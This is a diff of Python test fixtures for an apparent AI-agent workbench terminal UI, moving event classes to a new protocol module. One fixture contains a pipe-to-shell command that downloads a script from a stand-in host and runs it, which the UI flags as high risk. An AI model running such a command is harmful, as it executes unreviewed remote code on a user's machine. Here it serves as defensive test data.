@@ -5,7 +5,8 @@ from __future__ import annotations
 from typing import Any
 
 from tests.tui.sample_session import WORKSPACE, Script
-from workbench.session import events as ev
+from workbench.protocol import events as ev
+from workbench.protocol import live
 
 CALC = f"{WORKSPACE}/src/calc.py"
 TESTS = f"{WORKSPACE}/tests/test_calc.py"
@@ -114,8 +115,8 @@ def working() -> list[Any]:
     script.run("str_replace_editor", "edited", "MEDIUM", command="str_replace", path=CALC, _files=(delta,))
     plan(script, "done", "done", "done", "in_progress")
     script.begin("execute_bash", "LOW", command="python -m pytest -q")
-    output = ev.ToolOutput(action_id=f"a{script.actions}", text="collected 12 items\n\ntests/test_calc.py .......")
-    return [*script.events, output, ev.EngineState(state="acting")]
+    output = live.ToolOutput(action_id=f"a{script.actions}", text="collected 12 items\n\ntests/test_calc.py .......")
+    return [*script.events, output, live.EngineState(state="acting")]
 
 
 def question_with_diff() -> list[Any]:
@@ -127,7 +128,7 @@ def question_with_diff() -> list[Any]:
         "MEDIUM",
         preview=(delta,),
     )
-    return [*script.events, ev.EngineState(state="deciding")]
+    return [*script.events, live.EngineState(state="deciding")]
 
 
 def question_with_command() -> list[Any]:
@@ -143,7 +144,7 @@ def question_with_command() -> list[Any]:
             ev.Segment(text="curl -s https://example.org/i.sh | sh", risk="HIGH", reason="runs what it downloads"),
         ),
     )
-    return [*script.events, ev.EngineState(state="deciding")]
+    return [*script.events, live.EngineState(state="deciding")]
 
 
 def assess(script: Script, action_id: str, risk: str, **more: Any) -> None:
@@ -166,7 +167,7 @@ def finished() -> list[Any]:
     )
     script.run("finish", "", message=message)
     script.add(ev.RunEnded, reason="finished", detail="Negative amounts keep their sign now.")
-    return [*script.events, ev.EngineState(state="idle")]
+    return [*script.events, live.EngineState(state="idle")]
 
 
 def failed() -> list[Any]:
@@ -174,4 +175,4 @@ def failed() -> list[Any]:
     script.run("execute_bash", "make: *** No rule to make target 'test'.", command="make test", _exit_code=2)
     detail = "the provider does not know the key; set OPENAI_API_KEY"
     script.add(ev.RunEnded, reason="error", detail=detail)
-    return [*script.events, ev.EngineState(state="idle")]
+    return [*script.events, live.EngineState(state="idle")]
